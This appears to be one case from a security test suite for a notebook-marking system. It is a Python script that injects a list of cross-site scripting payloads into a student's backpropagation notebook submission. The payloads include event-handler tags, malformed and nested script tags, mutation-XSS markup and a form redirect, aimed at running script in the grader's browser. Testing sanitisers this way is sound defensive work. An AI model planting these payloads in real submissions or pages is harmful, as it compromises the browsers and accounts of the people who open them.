# attack: 110
# title: tags with handlers in a derivation, whole, broken, nested and disguised
# success: a script runs in the browser of whoever opens the notebook to mark it
# kind: submission
# naive: shown
import json

TEXT = """<img src=x onerror=alert(1)> <svg/onload=alert(1)> <b onclick=alert(1)>b</b>
<details ontoggle=alert(1) open> <!--><img src=x onerror=alert(1)>--> <\x00script>alert(1)
</script> <SCRIPT>alert(1)</SCRIPT > <iframe srcdoc="<script>alert(1)</script>"></iframe>
<img src="attachment:a.png" onerror=alert(1)> </div></div><form action=//example.org>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1">

# <img src=x onerror=alert(1)>

| a |
|---|
| <img src=x onerror=alert(1)> |

```
<img src=x onerror=alert(1)>
```
$x <img src=x onerror=alert(1)> y$
"""


def build(folder, notebook):
    for cell in notebook["cells"]:
        if "derivation" in str(cell["metadata"]):
            cell["source"] = TEXT
    notebook["cells"].append({**code_cell(TEXT), "cell_type": "markdown", "id": "m"})
    (folder / "a07_backpropagation.ipynb").write_text(json.dumps(notebook))
